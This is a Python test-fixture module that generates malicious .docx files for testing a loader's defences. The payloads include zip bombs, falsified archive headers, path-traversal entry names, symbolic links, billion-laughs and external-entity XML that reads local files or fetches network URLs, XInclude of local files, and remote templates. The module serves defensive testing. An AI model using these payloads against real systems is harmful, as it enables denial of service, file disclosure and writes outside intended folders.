"""Word files made to do harm: zip bombs, lying directories, names that leave the folder, XML that explodes."""

from __future__ import annotations

import io
import stat
import struct
import warnings
import zipfile
from functools import cache

from tests.loaders.attacks_text import SIZE, Attacks, Outside
from tests.loaders.fuzz_seeds import seeds

_MAIN, _STYLES, _TYPES = "word/document.xml", "word/styles.xml", "[Content_Types].xml"
_RELS, _MAIN_RELS = "_rels/.rels", "word/_rels/document.xml.rels"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@cache
def _good() -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(seeds("docx")["small.docm"])) as z:
        return {name: z.read(name) for name in z.namelist()}


def _zip(entries: list[tuple[str | zipfile.ZipInfo, bytes]], kind: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", kind) as z:
        warnings.simplefilter("ignore")  # names that occur twice are meant
        for name, data in entries:
            z.writestr(zipfile.ZipInfo(name) if isinstance(name, str) else name, data, kind)
    return out.getvalue()


def _word(changed: dict[str, str | bytes], kind: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A good Word file with some of its parts changed or added."""
    parts = _good() | {n: c.encode() if isinstance(c, str) else c for n, c in changed.items()}
    return _zip([*parts.items()], kind)


def _document(body: str, doctype: str = "") -> str:
    return f'<?xml version="1.0"?>{doctype}<w:document {_W}><w:body><w:p><w:r><w:t>a</w:t></w:r></w:p>{body}</w:body></w:document>'


def _body(xml: str) -> bytes:
    return _word({_MAIN: _document(xml)})


def _styles(xml: str, used: str = "s0") -> bytes:
    paragraph = f'<w:p><w:pPr><w:pStyle w:val="{used}"/></w:pPr><w:r><w:t>b</w:t></w:r></w:p>'
    return _word({_STYLES: f"<w:styles {_W}>{xml}</w:styles>", _MAIN: _document(paragraph)})


def _style(number: int, based_on: int, name: str = "x") -> str:
    return f'<w:style w:type="paragraph" w:styleId="s{number}"><w:name w:val="{name}{number}"/><w:basedOn w:val="s{based_on}"/></w:style>'


def _linked(targets: list[str], external: bool = False, part: str = _MAIN_RELS) -> str:
    mode = ' TargetMode="External"' if external else ""
    rels = "".join(f'<Relationship Id="x{n}" Type="{_OFFICE}/image" Target="{t}"{mode}/>' for n, t in enumerate(targets))
    return _good()[part].decode().replace("</Relationships>", rels + "</Relationships>")


def _patched(data: bytes, name: str, local: dict[int, bytes], central: dict[int, bytes]) -> bytes:
    """A zip file with bytes of one entry's two headers overwritten, by offset in the header."""
    out = bytearray(data)
    at, where = out.find(b"PK\x01\x02"), -1
    while at >= 0:
        length = struct.unpack_from("<H", out, at + 28)[0]
        if bytes(out[at + 46 : at + 46 + length]) == name.encode():
            where = struct.unpack_from("<I", out, at + 42)[0]
            for offset, value in central.items():
                out[at + offset : at + offset + len(value)] = value
        at = out.find(b"PK\x01\x02", at + 4)
    assert where >= 0
    for offset, value in local.items():
        out[where + offset : where + offset + len(value)] = value
    return bytes(out)


def _overlapping(copies: int, size: int) -> bytes:
    """Entries that share their compressed data: each directory entry points at the first one's."""
    good = [*_good().items(), ("word/media/0.xml", b"<a/>" + b" " * size)]
    names = [f"word/media/{k}.xml" for k in range(1, copies)]
    data = _zip(good)
    end = data.rfind(b"PK\x05\x06")
    start = struct.unpack_from("<I", data, end + 16)[0]
    central = data[start:end]
    last = central[central.rfind(b"PK\x01\x02") :]
    extra = b"".join(last[:28] + struct.pack("<H", len(n)) + last[30:46] + n.encode() for n in names)
    count = len(good) + len(names)
    return data[:end] + extra + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central) + len(extra), start, 0)


def docx_attacks(outside: Outside, n: int = SIZE) -> Attacks:
    parts = _zips(outside, n) | _packages(outside, n) | _xml(outside, n)
    return {name: ("a.docx", data) for name, data in parts.items()}


def _zips(outside: Outside, n: int) -> dict[str, bytes]:
    good = _zip([*_good().items()])
    link = zipfile.ZipInfo("word/link.xml")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    names = [
        "../../escaped.txt",
        outside.text + ".new",
        "..\\..\\escaped.txt",
        "C:\\escaped.txt",
        "\0",
        "word/./../../escaped.txt",
        "/" * 200,
        "a" * 60_000,
    ]
    blanks = b"<w:document/>" + b" " * 450 * n
    huge = struct.pack("<I", 0xFFFFFFFE)
    content = _document("").encode()
    store = _word({}, zipfile.ZIP_STORED)
    return {
        "bomb": _word({_MAIN: b" " * 2000 * n}),
        "bomb just below fifty million": _word({_MAIN: blanks}),
        "bomb beside the document": _word({"word/media/image1.png": b"\0" * 2000 * n}),
        "bomb of bombs": _word({"word/media/image1.png": _word({_MAIN: b" " * 1000 * n})}),
        "bomb of many parts": _word({f"word/media/{k}.xml": b" " * 20 * n for k in range(100)}),
        "bomb of empty paragraphs": _body("<w:p/>" * 80 * n),
        "bomb of text": _body("<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 14 * n),
        "bomb of attributes": _body("<w:p " + " ".join(f'w:a{k}="1"' for k in range(10 * n)) + "/>"),
        "bomb of cells": _body("<w:tbl><w:tr>" + "<w:tc/>" * 60 * n + "</w:tr></w:tbl>"),
        "bomb of styles": _word({_STYLES: f"<w:styles {_W}>" + "<w:style/>" * 40 * n + "</w:styles>"}),
        "bomb in bzip2": _word({_MAIN: _document(" " * 1000 * n)}, zipfile.ZIP_BZIP2),
        "bomb in LZMA": _word({_MAIN: _document(" " * 1000 * n)}, zipfile.ZIP_LZMA),
        "LZMA with a huge dictionary": _word({}, zipfile.ZIP_LZMA).replace(b"\x5d\x00\x00\x80\x00", b"\x5d\xff\xff\xff\xff"),
        "many entries": _zip([*_good().items(), *((f"e{k}", b"") for k in range(n * 65 // 100))], zipfile.ZIP_STORED),
        "entries of one name": _zip([*_good().items()] + [(_MAIN, content)] * 5000),
        "overlapping entries": _overlapping(2000, 10_000_000),
        "overlapping entries, fewer": _overlapping(40, 1_000_000),
        "size said too small": _patched(good, _MAIN, {22: b"\x01\0\0\0"}, {24: b"\x01\0\0\0"}),
        "size said too large": _patched(good, _MAIN, {22: huge}, {24: huge}),
        "packed size said too large": _patched(good, _MAIN, {18: huge}, {20: huge}),
        "stored with a huge size": _patched(store, _MAIN, {18: huge, 22: huge}, {20: huge, 24: huge}),
        "bomb with a small size": _patched(_word({_MAIN: b" " * 2000 * n}), _MAIN, {22: b"\0\1\0\0"}, {24: b"\0\1\0\0"}),
        "offset beyond the end": _patched(good, _MAIN, {}, {42: huge}),
        "entry that is another": _patched(good, _MAIN, {30: b"nord"}, {}),
        "encrypted entry": _patched(good, _MAIN, {6: b"\1\0"}, {8: b"\1\0"}),
        "unknown compression": _patched(good, _MAIN, {8: b"\x63\0"}, {10: b"\x63\0"}),
        "a huge extra field": _patched(good, _MAIN, {28: b"\xff\xff"}, {30: b"\xff\xff"}),
        "names that leave the folder": _zip([*_good().items(), *((zipfile.ZipInfo(n), b"escaped") for n in names)]),
        "symbolic link": _zip([*_good().items(), (link, outside.text.encode())]),
        "linked document": _zip([*((n, d) for n, d in _good().items() if n != _MAIN), (_as_link(_MAIN), outside.text.encode())]),
        "no entries": _zip([]),
        "directory alone": good[good.rfind(b"PK\x05\x06") :],
        "long comment": good[:-2] + b"\xff\xff" + b"PK\x05\x06" * 16_000,
        "Zip64 with huge counts": good[:-22] + b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, 1 << 62, 1 << 62, 1 << 62, 0)
        + b"PK\x06\x07" + struct.pack("<IQI", 0, len(good) - 22, 1) + b"PK\x05\x06" + b"\xff" * 16 + b"\0\0",
        "data in front": b"#!/bin/sh\n" + good,
        "two files": good + good,
        "OLE file": b"\xd0\xcf\x11\xe0" + bytes(1000),
    }  # fmt: skip


def _as_link(name: str) -> zipfile.ZipInfo:
    link = zipfile.ZipInfo(name)
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    return link


def _packages(outside: Outside, n: int) -> dict[str, bytes]:
    chain = {f"word/_rels/p{n}.xml.rels": _linked([f"p{n + 1}.xml"]) for n in range(3000)} | {f"word/p{n}.xml": "<a/>" for n in range(3001)}
    many = {f"word/p{k}.xml": "<a/>" for k in range(n // 5)}
    circle = {
        "word/_rels/p0.xml.rels": _linked(["p1.xml"]),
        "word/_rels/p1.xml.rels": _linked(["p0.xml"]),
        "word/p0.xml": "<a/>",
        "word/p1.xml": "<a/>",
    }
    main = _good()[_TYPES].decode()
    names = [
        "../../../escaped.txt",
        outside.text,
        f"file://{outside.text}",
        outside.url,
        "//",
        "..",
        "",
        "a\\b",
        "%2e%2e/x",
        "document.xml",
    ]
    made: dict[str, dict[str, str | bytes]] = {
        "chain of parts": {_MAIN_RELS: _linked(["p0.xml"]), **chain},
        "many parts": {_MAIN_RELS: _linked([f"p{k}.xml" for k in range(n // 5)]), **many},
        "circle of parts": {_MAIN_RELS: _linked(["p0.xml"]), **circle},
        "one part often": {_MAIN_RELS: _linked(["document.xml"] * n)},
        "external parts": {_MAIN_RELS: _linked([outside.url, f"file://{outside.text}", outside.text] * 50, external=True)},
        "template from the network": {_MAIN_RELS: _linked([outside.url], True).replace("/image", "/attachedTemplate")},
        "properties of no type": {"docProps/core.xml": "<a/>"},
        "properties with a bad date": {"docProps/core.xml": _good()["docProps/core.xml"].replace(b"20", b"x")},
        "types that lie": {_TYPES: main.replace("wordprocessingml.document.main+xml", "wordprocessingml.styles+xml")},
        "every part a document": {_TYPES: main.replace("wordprocessingml.styles+xml", "wordprocessingml.document.main+xml")},
        "no types": {_TYPES: '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'},
        "document that is its styles": {_MAIN: _good()[_STYLES]},
        "no body": {_MAIN: f"<w:document {_W}/>"},
        "two bodies": {_MAIN: f"<w:document {_W}><w:body/><w:body><w:p/></w:body></w:document>"},
        "no relations": {_MAIN_RELS: "", _RELS: ""},
        "relations of no part": {_RELS: _good()[_RELS].decode().replace("word/document.xml", "word/nothing.xml")},
        "relations of themselves": {_RELS: _linked(["_rels/.rels", "[Content_Types].xml"], part=_RELS)},
    }
    made |= {f"part at bad name {n}": {_MAIN_RELS: _linked([name])} for n, name in enumerate(names)}
    made |= {
        f"document at bad name {n}": {_RELS: _good()[_RELS].decode().replace("word/document.xml", name)} for n, name in enumerate(names)
    }
    return {name: _word(changed) for name, changed in made.items()}


def _xml(outside: Outside, n: int) -> dict[str, bytes]:
    laughs = "".join(f'<!ENTITY l{k} "{f"&l{k - 1};" * 10}">' for k in range(1, 10))
    entities = {
        "billion laughs": (f'<!ENTITY l0 "lol">{laughs}', "&l9;"),
        "quadratic blowup": (f'<!ENTITY l "{"a" * 50_000}">', "&l;" * 20_000),
        "laughs in parameters": ("<!ENTITY % a \"<!ENTITY l 'x'>\">" + "%a;" * n, "&l;"),
        "entities in a circle": ('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;"),
        "outer entity": (f'<!ENTITY x SYSTEM "file://{outside.text}">', "&x;"),
        "outer parameter": (f'<!ENTITY % x SYSTEM "file://{outside.dtd}"> %x;', "&canary;"),
        "entity from the network": (f'<!ENTITY x SYSTEM "{outside.url}">', "&x;"),
        "parameter from the network": (f'<!ENTITY % x SYSTEM "{outside.url}"> %x;', "b"),
        "device as an entity": ('<!ENTITY x SYSTEM "file:///dev/zero">', "&x;"),
    }
    made = {
        name: _word({_MAIN: _document(f"<w:p><w:r><w:t>{used}</w:t></w:r></w:p>", f"<!DOCTYPE d [{e}]>")})
        for name, (e, used) in entities.items()
    }
    made |= {
        f"{name}, in the styles": _word({_STYLES: f'<?xml version="1.0"?><!DOCTYPE d [{e}]><w:styles {_W}>{used}</w:styles>'})
        for name, (e, used) in entities.items()
    }
    made |= {
        f"{name}, in the types": _word({_TYPES: f"<!DOCTYPE d [{e}]>" + _good()[_TYPES].decode().partition("?>")[2].replace("docx", used)})
        for name, (e, used) in entities.items()
    }
    attributes = f'<!DOCTYPE d [<!ENTITY l0 "lol">{laughs}]>'
    nested = {
        "tables": "<w:tbl><w:tr><w:tc>",
        "controls": "<w:sdt><w:sdtContent>",
        "runs": "<w:p><w:r>",
        "links": "<w:p><w:hyperlink>",
        "changes": "<w:ins>",
    }
    for name, opening in nested.items():
        tags = opening.replace(">", "> ").split()
        closing = "".join(f"</{tag[1:]}" for tag in reversed(tags))
        for depth, called in ((80, "80"), (240, "240"), (2000, "2,000"), (n, "very many")):
            made[f"{called} {name} in {name}"] = _body(opening * depth + "<w:p><w:r><w:t>b</w:t></w:r></w:p>" + closing * depth)
    many = n // 10
    made |= {
        "outer DTD": _word({_MAIN: _document("", f'<!DOCTYPE d SYSTEM "file://{outside.dtd}">')}),
        "laughs in an attribute": _word({_MAIN: _document('<w:p w:a="&l9;"/>', attributes)}),
        "included file": _body(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{outside.text}" parse="text"/>'),
        "stylesheet": _word({_MAIN: _document("", f'<?xml-stylesheet type="text/xsl" href="{outside.url}"?>')}),
        "comments and instructions": _body("<!--a--><?a b?>" * 20_000 + "<w:p><!--a--><w:r><?a b?><w:t><!--a-->b</w:t></w:r></w:p>"),
        "a huge text": _body("<w:p><w:r><w:t>" + "word " * 30 * n + "</w:t></w:r></w:p>"),
        "tables in cells": _body("<w:tbl>" + "<w:tr><w:tc><w:tbl><w:tr><w:tc/></w:tr></w:tbl></w:tc></w:tr>" * 20_000 + "</w:tbl>"),
        "wide tables in tables": _body("<w:tbl><w:tr><w:tc/><w:tc>" * 70 + "<w:p/>" * 20_000 + "</w:tc></w:tr></w:tbl>" * 70),
        "rows without a table": _body("<w:tr><w:tc/></w:tr>" * 1000 + "<w:tbl><w:tc/><w:p/><w:tr/></w:tbl>"),
        "breaks": _body("<w:p><w:r>" + "<w:br/>" * n + "<w:t>b</w:t></w:r></w:p>"),
        "styles in a circle": _styles(_style(0, 1) + _style(1, 0)),
        "a style of itself": _styles(_style(0, 0)),
        "a chain of styles": _styles("".join(_style(k, k + 1) for k in range(many))),
        "styles of one style": _styles("".join(_style(k, many - 1) for k in range(many))),
        "styles of none": _styles("".join(_style(k, many) for k in range(many))),
        "styles of one name": _styles(_style(0, 0) * many),
        "a style of a quoted name": _styles("<w:style w:styleId='s0'><w:name w:val='x'/><w:basedOn w:val='\"]|//*[\"'/></w:style>"),
        "a style of no name": _styles('<w:style w:type="paragraph" w:styleId="s0"><w:name/><w:basedOn/></w:style>'),
        "a style without an id": _styles('<w:style w:type="paragraph"><w:name w:val="x"/></w:style>'),
        "a style of no type": _styles('<w:style w:type="x" w:styleId="s0"/><w:style w:styleId="s1"/><w:style w:type="" w:styleId="s2"/>'),
        "a style with a huge name": _styles(_style(0, 1, "x" * 1_000_000)),
        "namespaces": _word({_MAIN: _document("<a:b xmlns:a='x'/>" * 50_000)}),
        "UTF-7": _word({_MAIN: b'<?xml version="1.0" encoding="utf-7"?>' + _document("").partition("?>")[2].encode("utf-7")}),
        "UTF-16 by name alone": _word({_MAIN: b'<?xml version="1.0" encoding="utf-16"?>' + _document("").partition("?>")[2].encode()}),
    }  # fmt: skip
    return made
